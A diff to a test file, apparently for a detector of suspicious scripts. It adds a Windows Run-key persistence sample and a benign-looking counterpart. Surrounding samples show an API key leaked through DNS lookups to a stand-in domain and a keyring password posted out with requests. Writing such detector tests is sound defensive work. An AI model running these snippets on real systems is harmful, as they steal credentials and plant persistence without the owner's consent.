@@ -57,6 +57,11 @@ PYTHON = [
         "import os, socket\nd = os.environ['API_KEY']\nfor i in range(9):\n"
         "    socket.gethostbyname(d[i : i + 9] + '.a.example')",
     ),
+    (
+        "script-persists",
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+        r"'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)",
+    ),
     ("script-sends-variable", "import keyring, requests\nrequests.post(u, data={'v': keyring.get_password('a', 'b')})"),
 ]
 SHELL = [
@@ -135,6 +140,7 @@ def test_another_script_takes_no_detour(rule: str, text: str) -> None:
         (Language.PYTHON, "import threading\nthreading.Thread(target=serve, args=('a b',)).start()"),
         (Language.PYTHON, "import os, subprocess\nsubprocess.run(args=['git', 'status'], check=True)"),
         (Language.PYTHON, "import os, requests\nk = os.environ['API_KEY']\nprint(k[:4] + '...')"),
+        (Language.PYTHON, r"import winreg; winreg.OpenKey(winreg.HKEY_CURRENT_USER, '\\CurrentVersion\\Run')"),
         (Language.PYTHON, "exec('x = 1')\nlist(map(str, [1, 2]))\npool.map(work, ['a', 'b'])"),
         (Language.PYTHON, "@app.route('/')\n@functools.cache\ndef index(): return 'x'"),
         (Language.SHELL, "PYTHON=python3\n$PYTHON -m pytest -q\nfind . -name '*.pyc' -exec rm {} +"),
